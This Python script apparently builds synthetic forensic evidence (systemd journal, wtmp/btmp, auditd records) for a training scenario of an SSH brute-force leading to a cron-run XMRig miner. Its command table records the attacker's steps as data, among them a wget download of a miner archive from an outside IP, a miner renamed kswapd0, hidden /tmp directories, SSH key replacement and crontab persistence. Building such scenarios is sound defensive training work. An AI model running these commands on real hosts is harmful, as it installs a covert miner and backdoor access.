#!/usr/bin/env python3
"""Makes the binary evidence of the journal-only scenario (run from the repository root, on Debian 12 with
systemd-journal-remote, util-linux and auditd installed; as root, for the small tmpfs the journal is
written in):

  python3 sample-logs/scenarios/ssh-bruteforce-cron-xmrig-journal/make-evidence.py

The incident is the one of ../ssh-bruteforce-cron-xmrig/ (its auth.log, syslog and .bash_history are the
input, so both scenarios tell the same story), recorded the way a Debian 12 host without rsyslog keeps it:

* var/log/journal/<machine-id>/system.journal — every auth.log and syslog line as the journal entry journald
  252 would have written (SYSLOG_IDENTIFIER, _PID, _COMM, _EXE, _SYSTEMD_UNIT, _TRANSPORT …; the kernel's
  line without its uptime prefix), written by the real writer: an export stream piped into
  systemd-journal-remote (compact, zstd) on an 8 MiB tmpfs (its hash tables are sized from the free space), its zero
  preallocation cut off. logind's session numbers follow
  the kernel's audit session counter (cron's sessions take numbers too), so the return is session 16.
* var/log/wtmp, var/log/btmp — utmpdump text turned into records by `utmpdump -r`: a boot, the three
  interactive SSH sessions with their logouts (wtmp); one LOGIN_PROCESS record per "Failed password" line,
  0.2 ms after it, as sshd writes it (btmp).
* var/log/audit/audit.log — auditd 3.0.9 RAW records of an `-a always,exit -F arch=b64 -S execve -k exec`
  rule plus PAM's user-space records: every program the attacker's bash executed (builtins such as echo
  and cd execute nothing, so the planted key's echo is not there), cron's miner runs, the admin's sudo.
  Checked with `ausearch -if audit.log -i` (the script fails if ausearch cannot read an event back).

Deterministic: the same input gives the same files, except the journal's random file and seqnum ids
that systemd-journal-remote draws itself.
"""
import datetime, os, re, shutil, struct, subprocess, tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
TEXT = os.path.join(HERE, "..", "ssh-bruteforce-cron-xmrig")
HOST = "web01"
MACHINE = "3f1c2b9a7d6e4f5081a2b3c4d5e6f708"
BOOT = "9b8e7f6a5d4c4b3a8f9e0d1c2b3a4f5e"
BOOTED = datetime.datetime(2024, 3, 2, 0, 53, 52, 0, tzinfo=datetime.timezone.utc)  # kernel uptime 8812 s at 03:20:44
SESSION_RENUMBER = {"9": "16"}  # logind's "New session 9" of the text scenario: cron's sessions 8–15 came before


def us(dt):
    return int((dt - datetime.datetime(1970, 1, 1, tzinfo=datetime.timezone.utc)).total_seconds()) * 1_000_000 + dt.microsecond


def parse_line(line):
    stamp, host, rest = line.split(" ", 2)
    t = datetime.datetime.fromisoformat(stamp)
    m = re.match(r"([^\[:]+)(?:\[(\d+)\])?: (.*)", rest)
    return t, m.group(1), m.group(2), m.group(3)


# program → (_COMM, _EXE, _SYSTEMD_UNIT, _TRANSPORT, facility, uid)
PROGRAMS = {
    "sshd": ("sshd", "/usr/sbin/sshd", "ssh.service", "syslog", 4, "0"),
    "systemd-logind": ("systemd-logind", "/usr/lib/systemd/systemd-logind", "systemd-logind.service", "journal", 4, "0"),
    "sudo": ("sudo", "/usr/bin/sudo", "session-5.scope", "syslog", 10, "1000"),
    "CRON": ("cron", "/usr/sbin/cron", "cron.service", "syslog", 9, "0"),
    "cron": ("cron", "/usr/sbin/cron", "cron.service", "syslog", 9, "0"),
    "crontab": ("crontab", "/usr/bin/crontab", "session-7.scope", "syslog", 9, "0"),
    "systemd": ("systemd", "/usr/lib/systemd/systemd", "init.scope", "journal", 3, "0"),
}


def journal_entry(t, program, pid, message):
    fields = [("__REALTIME_TIMESTAMP", str(us(t))), ("__MONOTONIC_TIMESTAMP", str(us(t) - us(BOOTED))), ("_BOOT_ID", BOOT),
              ("_MACHINE_ID", MACHINE), ("_HOSTNAME", HOST)]
    if program == "kernel":
        message = re.sub(r"^\[\s*[\d.]+\] ", "", message)
        return fields + [("PRIORITY", "4"), ("SYSLOG_FACILITY", "0"), ("SYSLOG_IDENTIFIER", "kernel"), ("_TRANSPORT", "kernel"),
                         ("_SOURCE_MONOTONIC_TIMESTAMP", str(us(t) - us(BOOTED) - 120)), ("MESSAGE", message)]
    if program == "systemd-logind":
        for old, new in SESSION_RENUMBER.items():
            message = re.sub(rf"\b[Ss]ession {old}\b", lambda m: m.group(0)[:-len(old)] + new, message)
    comm, exe, unit, transport, facility, uid = PROGRAMS[program]
    if program == "sshd" and message.startswith("pam_unix"):
        facility = 10
    priority = "5" if "authentication failure" in message else "6"
    return fields + [("PRIORITY", priority), ("SYSLOG_FACILITY", str(facility)), ("SYSLOG_IDENTIFIER", program), ("SYSLOG_PID", pid),
                     ("_TRANSPORT", transport), ("_PID", pid), ("_UID", uid), ("_GID", uid), ("_COMM", comm), ("_EXE", exe),
                     ("_SYSTEMD_CGROUP", "/system.slice/" + unit if unit.endswith(".service") else "/init.scope"),
                     ("_SYSTEMD_UNIT", unit), ("_SOURCE_REALTIME_TIMESTAMP", str(us(t) - 23)), ("MESSAGE", message)]


def export(entries):
    out = bytearray()
    for fields in entries:
        for name, value in fields:
            b = value.encode()
            if all(32 <= c < 127 or c == 9 or c >= 128 for c in b):
                out += name.encode() + b"=" + b + b"\n"
            else:
                out += name.encode() + b"\n" + struct.pack("<Q", len(b)) + b + b"\n"
        out += b"\n"
    return bytes(out)


def trim(path):
    """Cuts the zero preallocation after the last object (header: header_size @88, arena_size @96, tail_object_offset @136)."""
    data = bytearray(open(path, "rb").read())
    header_size, tail = struct.unpack_from("<Q", data, 88)[0], struct.unpack_from("<Q", data, 136)[0]
    end = (tail + struct.unpack_from("<Q", data, tail + 8)[0] + 7) & ~7
    struct.pack_into("<Q", data, 96, end - header_size)
    open(path, "wb").write(bytes(data[:end]))


def make_journal(lines, target):
    entries = [journal_entry(*parse_line(l)) for l in lines]
    entries.sort(key=lambda e: int(e[0][1]))
    with tempfile.TemporaryDirectory() as tmp:
        # journal-remote sizes the hash tables from the free space: a small tmpfs keeps the file small (root needed).
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", tmp], check=True)
        try:
            out = os.path.join(tmp, "system.journal")
            subprocess.run(["/lib/systemd/systemd-journal-remote", "-o", out, "-"], input=export(entries), check=True)
            shutil.copyfile(out, target)
        finally:
            subprocess.run(["umount", tmp], check=True)
    trim(target)
    check = subprocess.run(["journalctl", "--file", target, "-o", "export"], check=True, capture_output=True).stdout
    assert check.count(b"\n__CURSOR=") + check.startswith(b"__CURSOR=") == len(entries), "journalctl does not read every entry back"


def utmp_line(kind, pid, ut_id, user, line, host, addr, t):
    stamp = t.strftime("%Y-%m-%dT%H:%M:%S,") + f"{t.microsecond:06d}+00:00"
    return f"[{kind}] [{pid:05d}] [{ut_id:<4}] [{user:<8}] [{line:<12}] [{host:<20}] [{addr:<15}] [{stamp}]"


def make_utmp(text, target):
    subprocess.run(["utmpdump", "-r", "-o", target], input=(text + "\n").encode(), check=True, capture_output=True)


def hexs(b):
    return b.hex().upper()


def value(s):
    """auditd's encoding of an untrusted string: quoted when plain, else hex of its bytes."""
    b = s.encode()
    return f'"{s}"' if all(0x21 <= c <= 0x7E and c != 0x22 for c in b) else hexs(b)


class Audit:
    def __init__(self):
        self.lines, self.serial = [], 2130

    def _head(self, t, kind):
        return f"type={kind} msg=audit({us(t) // 1_000_000}.{(t.microsecond // 1000):03d}:{self.serial}): "

    def user(self, t, kind, pid, uid, auid, ses, body):
        self.serial += 1
        self.lines.append(self._head(t, kind) + f"pid={pid} uid={uid} auid={auid} ses={ses} subj=unconfined msg='{body}'")

    def login(self, t, pid, old_auid, auid, old_ses, ses):
        self.serial += 1
        self.lines.append(self._head(t, "LOGIN") + f"pid={pid} uid=0 subj=unconfined old-auid={old_auid} auid={auid} tty=(none) old-ses={old_ses} ses={ses} res=1")

    def execve(self, t, pid, ppid, auid, uid, ses, tty, exe, argv, cwd, inode):
        self.serial += 1
        comm = os.path.basename(exe)[:15] if argv[0].startswith("/") or not argv[0].startswith("-") else argv[0].lstrip("-")[:15]
        if exe == "/usr/bin/dash":
            comm = "sh"
        head = lambda k: self._head(t, k)
        pid, ppid = int(pid), int(ppid)
        regs = f"a0=55d4c{pid:05x}10 a1=55d4c{pid:05x}90 a2=55d4c{pid:05x}e0 a3=8"
        ids = f"auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid}"
        self.lines.append(head("SYSCALL") + f"arch=c000003e syscall=59 success=yes exit=0 {regs} items=2 ppid={ppid} pid={pid} {ids} tty={tty} ses={ses} comm={value(comm)} exe={value(exe)} subj=unconfined key=\"exec\"")
        self.lines.append(head("EXECVE") + f"argc={len(argv)} " + " ".join(f"a{i}={value(a)}" for i, a in enumerate(argv)))
        self.lines.append(head("CWD") + f"cwd={value(cwd)}")
        path = exe if not exe.startswith("/usr/bin/dash") else "/bin/sh"
        perms = "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
        self.lines.append(head("PATH") + f"item=0 name={value(path)} inode={inode} dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 {perms}")
        self.lines.append(head("PATH") + f"item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=2621 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 {perms}")
        title = "\0".join(argv).encode()[:128]
        self.lines.append(head("PROCTITLE") + "proctitle=" + (hexs(title) if b"\0" in title or not all(0x21 <= c <= 0x7E and c != 0x22 for c in title) else f'"{title.decode()}"'))


def ms(t, n):
    return t + datetime.timedelta(microseconds=n)


def history_commands():
    """(time, line) of the timed lines of the text scenario's .bash_history."""
    lines = open(os.path.join(TEXT, "root", ".bash_history")).read().splitlines()
    out, at = [], None
    for line in lines:
        if line.startswith("#") and line[1:].isdigit():
            at = datetime.datetime.fromtimestamp(int(line[1:]), datetime.timezone.utc)
        elif at is not None:
            out.append((at, line))
            at = None
    return out


# What bash executed for each history line: external programs only (cd, echo, exit are builtins; lockr is not installed).
EXECUTED = {
    "uname -a": [("/usr/bin/uname", ["uname", "-a"], "/root")],
    "cat /proc/cpuinfo | grep name | wc -l": [("/usr/bin/cat", ["cat", "/proc/cpuinfo"], "/root"), ("/usr/bin/grep", ["grep", "name"], "/root"), ("/usr/bin/wc", ["wc", "-l"], "/root")],
    "w": [("/usr/bin/w", ["w"], "/root")],
    "mkdir -p /tmp/.X25-unix/.rsync/c && cd /tmp/.X25-unix/.rsync/c": [("/usr/bin/mkdir", ["mkdir", "-p", "/tmp/.X25-unix/.rsync/c"], "/root")],
    "wget -q http://198.51.100.77/dota3.tar.gz": [("/usr/bin/wget", ["wget", "-q", "http://198.51.100.77/dota3.tar.gz"], "/tmp/.X25-unix/.rsync/c")],
    "tar xzf dota3.tar.gz && rm -f dota3.tar.gz": [("/usr/bin/tar", ["tar", "xzf", "dota3.tar.gz"], "/tmp/.X25-unix/.rsync/c"), ("/usr/bin/gzip", ["gzip", "-d"], "/tmp/.X25-unix/.rsync/c"), ("/usr/bin/rm", ["rm", "-f", "dota3.tar.gz"], "/tmp/.X25-unix/.rsync/c")],
    "chmod +x kswapd0": [("/usr/bin/chmod", ["chmod", "+x", "kswapd0"], "/tmp/.X25-unix/.rsync/c")],
    "cd ~; chattr -ia .ssh; lockr -ia .ssh": [("/usr/bin/chattr", ["chattr", "-ia", ".ssh"], "/root")],
    "ps aux | grep kswapd0": [("/usr/bin/ps", ["ps", "aux"], "/root"), ("/usr/bin/grep", ["grep", "kswapd0"], "/root")],
    "sysctl -w vm.nr_hugepages=128": [("/usr/sbin/sysctl", ["sysctl", "-w", "vm.nr_hugepages=128"], "/root")],
}
KEY_LINE = [("/usr/bin/rm", ["rm", "-rf", ".ssh"], "/root"), ("/usr/bin/mkdir", ["mkdir", ".ssh"], "/root"), ("/usr/bin/chmod", ["chmod", "-R", "go=", "/root/.ssh"], "/root")]
CRONTAB_LINE = [("/usr/bin/crontab", ["crontab", "-l"], "/root"), ("/usr/bin/crontab", ["crontab", "-"], "/root")]
INODES = {}


def inode(exe):
    return INODES.setdefault(exe, 1310720 + 37 * len(INODES))


def make_audit(auth, syslog, target):
    a = Audit()
    unset = "4294967295"

    def pam_login(t, pid, user, uid, ses, addr, tty, exe="/usr/sbin/sshd", terminal="ssh"):
        host = f"hostname={addr} addr={addr}" if addr else "hostname=? addr=?"
        a.user(t, "USER_ACCT", pid, 0, unset, unset, f'op=PAM:accounting grantors=pam_permit acct="{user}" exe="{exe}" {host} terminal={terminal} res=success')
        a.user(ms(t, 300), "CRED_ACQ", pid, 0, unset, unset, f'op=PAM:setcred grantors=pam_permit acct="{user}" exe="{exe}" {host} terminal={terminal} res=success')
        a.login(ms(t, 600), pid, unset, uid, unset, ses)
        a.user(ms(t, 2500), "USER_START", pid, 0, uid, ses, f'op=PAM:session_open grantors=pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,pam_systemd,pam_mail,pam_limits,pam_env,pam_env,pam_permit acct="{user}" exe="{exe}" {host} terminal={terminal} res=success')
        if tty:
            a.user(ms(t, 9000), "USER_LOGIN", pid, 0, uid, ses, f'op=login id={uid} exe="{exe}" {host} terminal=/dev/{tty} res=success')

    def pam_end(t, pid, user, uid, ses, addr, exe="/usr/sbin/sshd", terminal="ssh", logout=True):
        host = f"hostname={addr} addr={addr}" if addr else "hostname=? addr=?"
        a.user(t, "USER_END", pid, 0, uid, ses, f'op=PAM:session_close grantors=pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,pam_systemd,pam_mail,pam_limits,pam_env,pam_env,pam_permit acct="{user}" exe="{exe}" {host} terminal={terminal} res=success')
        a.user(ms(t, 400), "CRED_DISP", pid, 0, uid, ses, f'op=PAM:setcred grantors=pam_permit acct="{user}" exe="{exe}" {host} terminal={terminal} res=success')
        if logout:
            a.user(ms(t, 900), "USER_LOGOUT", pid, 0, uid, ses, f'op=logout id={uid} exe="{exe}" {host} terminal=/dev/pts/0 res=success')

    events = []  # (time, order, emit)
    for line in auth:
        t, program, pid, message = parse_line(line)
        if m := re.match(r"Failed password for (?:invalid user )?(\S+) from (\S+)", message):
            user, addr = m.groups()
            events.append((t, lambda t=t, pid=pid, user=user, addr=addr: a.user(ms(t, -1200), "USER_AUTH", pid, 0, unset, unset,
                           f'op=PAM:authentication grantors=? acct="{user}" exe="/usr/sbin/sshd" hostname={addr} addr={addr} terminal=ssh res=failed')))
    # The three interactive sessions (sshd's privileged pid, logind's/audit's session number, the shell's pid).
    sessions = [("deploy", "1000", "5", "1187", "198.51.100.10", "pts/0", "02:40:00", "02:43:00", "1191"),
                ("root", "0", "7", "2311", "203.0.113.45", "pts/1", "03:15:02.481913", "03:21:40.078020", "2398"),
                ("root", "0", "16", "4410", "198.51.100.23", "pts/1", "05:02:17.300514", "05:02:52.301414", "4415")]
    day = "2024-03-02T"
    for user, uid, ses, pid, addr, tty, start, end, shell in sessions:
        t0 = datetime.datetime.fromisoformat(day + start + "+00:00")
        t1 = datetime.datetime.fromisoformat(day + end + "+00:00")
        events.append((ms(t0, -800), lambda t=ms(t0, -800), pid=pid, user=user, addr=addr: a.user(t, "USER_AUTH", pid, 0, unset, unset,
                       f'op=PAM:authentication grantors=pam_permit acct="{user}" exe="/usr/sbin/sshd" hostname={addr} addr={addr} terminal=ssh res=success') if user == "root" and addr == "203.0.113.45" else None))
        events.append((ms(t0, 1000), lambda t=ms(t0, 1000), pid=pid, user=user, uid=uid, ses=ses, addr=addr, tty=tty: pam_login(t, pid, user, uid, ses, addr, tty)))
        home = "/root" if user == "root" else "/home/" + user
        events.append((ms(t0, 31000), lambda t=ms(t0, 31000), shell=shell, pid=pid, uid=uid, ses=ses, tty=tty, home=home:
                       a.execve(t, shell, int(pid) + 5, uid, uid, ses, tty.replace("/", ""), "/usr/bin/bash", ["-bash"], home, inode("/usr/bin/bash"))))
        events.append((t1, lambda t=t1, pid=pid, user=user, uid=uid, ses=ses, addr=addr: pam_end(t, pid, user, uid, ses, addr)))
    # The admin's sudo (noise): sudo, then the command it runs as root, still under deploy's login uid.
    t = datetime.datetime.fromisoformat(day + "02:40:40.990000+00:00")
    events.append((t, lambda t=t: a.execve(t, 1230, 1191, "1000", "1000", "5", "pts0", "/usr/bin/sudo", ["sudo", "systemctl", "reload", "nginx"], "/home/deploy", inode("/usr/bin/sudo"))))
    events.append((ms(t, 10000), lambda t=ms(t, 10000): a.user(t, "USER_CMD", 1230, 1000, 1000, 5,
                   f'cwd="/home/deploy" cmd={hexs(b"systemctl reload nginx")} exe="/usr/bin/sudo" terminal=pts/0 res=success')))
    events.append((ms(t, 12000), lambda t=ms(t, 12000): a.execve(t, 1231, 1230, "1000", "0", "5", "pts0", "/usr/bin/systemctl", ["systemctl", "reload", "nginx"], "/home/deploy", inode("/usr/bin/systemctl"))))
    # The attacker's shell: what bash executed for each history line, a few ms after the line's second.
    pid = 2400
    for at, line in history_commands():
        runs = EXECUTED.get(line) or (KEY_LINE if "authorized_keys" in line and "rm -rf .ssh" in line else CRONTAB_LINE if line.endswith("| crontab -") else [])
        for i, (exe, argv, cwd) in enumerate(runs):
            pid += 1
            t = ms(at, 2100 + 1700 * i)
            events.append((t, lambda t=t, pid=pid, exe=exe, argv=argv, cwd=cwd: a.execve(t, pid, 2398, "0", "0", "7", "pts1", exe, argv, cwd, inode(exe))))
    # cron: a PAM session (pam_loginuid: a new audit session), /bin/sh -c the line, the program itself.
    for line in syslog:
        t, program, cpid, message = parse_line(line)
        if program != "CRON" or not message.startswith("(root) CMD ("):
            continue
        command = message[len("(root) CMD ("):-1]
        # Audit session numbers: the 02:17 hourly job 4, then the logins 5 and 7, the 03:17 hourly job 8, the miner 9–15.
        s = str(4 if t.hour < 3 else 8 if t.minute == 17 else 9 + t.minute - 19)
        start = ms(t, -1000)
        events.append((start, lambda t=start, cpid=cpid, s=s: pam_login(t, cpid, "root", "0", s, None, None, "/usr/sbin/cron", "cron")))
        shell_pid, prog_pid = int(cpid) + 1, int(cpid) + 2
        events.append((ms(t, 1500), lambda t=ms(t, 1500), cpid=cpid, s=s, command=command, shell_pid=shell_pid: a.execve(t, shell_pid, cpid, "0", "0", s, "(none)", "/usr/bin/dash", ["/bin/sh", "-c", command], "/root", inode("/usr/bin/dash"))))
        argv = command.split(" >")[0].split()
        exe = argv[0] if argv[0].startswith("/") else "/usr/bin/run-parts"
        if argv[0] == "cd":
            argv = ["run-parts", "--report", "/etc/cron.hourly"]
        events.append((ms(t, 3100), lambda t=ms(t, 3100), s=s, exe=exe, argv=argv, shell_pid=shell_pid, prog_pid=prog_pid: a.execve(t, prog_pid, shell_pid, "0", "0", s, "(none)", exe, argv, "/" if argv[0] == "run-parts" else "/root", inode(exe))))
        events.append((ms(t, 40000), lambda t=ms(t, 40000), cpid=cpid, s=s: pam_end(t, cpid, "root", "0", s, None, "/usr/sbin/cron", "cron", logout=False)))
    events.sort(key=lambda e: e[0])
    for _, emit in events:
        emit()
    open(target, "w").write("\n".join(a.lines) + "\n")
    # ausearch must read every event back (it exits non-zero and prints <no matches> otherwise).
    out = subprocess.run(["ausearch", "-if", target, "-i"], check=True, capture_output=True, text=True).stdout
    assert out.count("----") == a.serial - 2130, (out.count("----"), a.serial - 2130)


def main():
    os.chdir(HERE)
    auth = open(os.path.join(TEXT, "var/log/auth.log")).read().splitlines()
    syslog = open(os.path.join(TEXT, "var/log/syslog")).read().splitlines()
    os.makedirs(f"var/log/journal/{MACHINE}", exist_ok=True)
    os.makedirs("var/log/audit", exist_ok=True)
    make_journal(auth + syslog, f"var/log/journal/{MACHINE}/system.journal")

    btmp = []
    for line in auth:
        t, program, pid, message = parse_line(line)
        if m := re.match(r"Failed password for (?:invalid user )?(\S+) from (\S+)", message):
            btmp.append(utmp_line(6, int(pid), "", m.group(1), "ssh:notty", m.group(2), m.group(2), ms(t, 200)))
    make_utmp("\n".join(btmp), "var/log/btmp")
    wtmp = [utmp_line(2, 0, "~~", "reboot", "~", "6.1.0-18-amd64", "0.0.0.0", ms(BOOTED, 104233)),
            utmp_line(1, 53, "~~", "runlevel", "~", "6.1.0-18-amd64", "0.0.0.0", ms(BOOTED, 8552106))]
    for user, pid, n, addr, start, end in [("deploy", 1190, 0, "198.51.100.10", "02:40:00.010700", "02:43:00.001500"),
                                          ("root", 2397, 1, "203.0.113.45", "03:15:02.492500", "03:21:40.078500"),
                                          ("root", 4414, 1, "198.51.100.23", "05:02:17.310100", "05:02:52.302000")]:
        t0 = datetime.datetime.fromisoformat("2024-03-02T" + start + "+00:00")
        t1 = datetime.datetime.fromisoformat("2024-03-02T" + end + "+00:00")
        wtmp.append(utmp_line(7, pid, f"ts/{n}", user, f"pts/{n}", addr, addr, t0))
        wtmp.append(utmp_line(8, pid, f"ts/{n}", "", f"pts/{n}", "", "0.0.0.0", t1))
    make_utmp("\n".join(wtmp), "var/log/wtmp")
    make_audit(auth, syslog, "var/log/audit/audit.log")

    os.makedirs("var/spool/cron/crontabs", exist_ok=True)
    os.makedirs("root/.ssh", exist_ok=True)
    shutil.copyfile(os.path.join(TEXT, "var/spool/cron/crontabs/root"), "var/spool/cron/crontabs/root")
    shutil.copyfile(os.path.join(TEXT, "root/.ssh/authorized_keys"), "root/.ssh/authorized_keys")


if __name__ == "__main__":
    main()
